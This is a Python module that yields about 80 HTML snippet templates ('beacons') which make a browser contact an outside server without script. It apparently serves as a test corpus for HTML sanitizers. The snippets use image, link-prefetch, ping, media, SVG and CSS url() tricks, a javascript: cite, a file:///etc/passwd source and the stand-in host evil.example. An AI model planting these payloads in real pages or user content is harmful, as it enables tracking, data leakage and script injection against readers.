"""What asks somebody else's server for something, without script: beacons."""

from __future__ import annotations

from collections.abc import Iterator

_SHAPES = (
    *("<img srcset=@img@>", "<img srcset='@img@ 1x, @img@ 2x' src=@img@>", "<img src=@img@ srcset=@img@ sizes=100vw>", "<img src=@img@ lowsrc=@load@ dynsrc=@load@>", "<img src=@img@ longdesc=@load@>", "<img src=@img@ style='content:url(@load@)'>"),
    *("<picture><source srcset=@img@><img src=@img@></picture>", "<picture><source srcset=@img@ type=image/webp media=all></picture>", "<img imagesrcset=@img@>", "<img src=@img@ usemap=@load@>", "<img attributionsrc=@load@ src=@img@>", "<a attributionsrc=@load@ href=https://example.org/>words</a>"),
    *("<a ping=@load@ href=https://example.org/>words</a>", "<a ping='@load@ @load@' href=https://example.org/>words</a>", "<area ping=@load@ href=https://example.org/ shape=default>", "<map name=m><area ping=@load@ href=https://example.org/ shape=default></map><img usemap=#m src=@img@>"),
    *("<video src=@load@></video>", "<video poster=@load@></video>", "<video autoplay><source src=@load@></video>", "<audio src=@load@ autoplay></audio>", "<audio><source src=@load@></audio>", "<video><track src=@load@ default kind=subtitles></video>", "<video controls preload=auto src=@load@></video>"),
    *("<table background=@load@><tr><td>words</table>", "<td background=@load@>words</td>", "<tr background=@load@><td>words</tr>", "<table><tr><td background=@load@>words</table>", "<body background=@load@>words", "<thead background=@load@><tr><td>w</thead>"),
    *("<link rel=icon href=@load@>", "<link rel=preload as=image href=@load@>", "<link rel=prefetch href=@load@>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=preconnect href=//evil.example>", "<link rel=prerender href=@load@>", "<link rel=modulepreload href=@load@>"),
    *("<link rel=manifest href=@load@>", "<link rel=preload as=style href=@load@ onload=@run@>", "<link rel=preload imagesrcset=@load@ as=image>", "<link rel=import href=@load@>", "<link rel=pingback href=@load@>", "<link rel=search href=@load@>", "<link rel=compression-dictionary href=@load@>"),
    *("<input type=image src=@load@>", "<input type=image src=@load@ alt=words>", "<button style='background:url(@load@)'>b</button>", "<object data=@load@></object>", "<embed src=@load@>", "<iframe src=@load@></iframe>", "<iframe longdesc=@load@></iframe>"),
    *("<svg><image href=@load@ width=9 height=9 /></svg>", "<svg><image xlink:href=@load@ width=9 height=9 /></svg>", "<svg><use href=@load@#x /></svg>", "<svg><rect fill=url(@load@#x) width=9 height=9 /></svg>", "<svg><text style='background:url(@load@)'>w</text></svg>", "<svg><script href=@load@ /></svg>"),
    *("<script src=@load@></script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"@load@\"]}]}</script>", "<script type=importmap>{\"imports\":{\"x\":\"@load@\"}}</script>", "<style>@import url(@load@)</style>", "<bgsound src=@load@>", "<applet code=x archive=@load@></applet>"),
    *("<q cite=javascript:@run@>words</q>", "<blockquote cite='data:text/html,@run@'>words</blockquote>", "<html manifest=@load@>words", "<head profile=@load@></head>words", "<model src=@load@></model>", "<portal src=@load@></portal>", "<xml src=@load@></xml>", "<layer src=@load@></layer>"),
    *("<img src='//evil.example/img/@n@'>", "<img src='@img@' crossorigin=use-credentials>", "<img src=@img@ referrerpolicy=unsafe-url fetchpriority=high>", "<img src=@img@ width=1 height=1 loading=eager>", "<img src=@img@ ismap><a href=https://example.org/><img src=@img@ ismap></a>", "<img src='file:///etc/passwd'>"),
)  # fmt: skip


def payloads() -> Iterator[str]:
    yield from _SHAPES
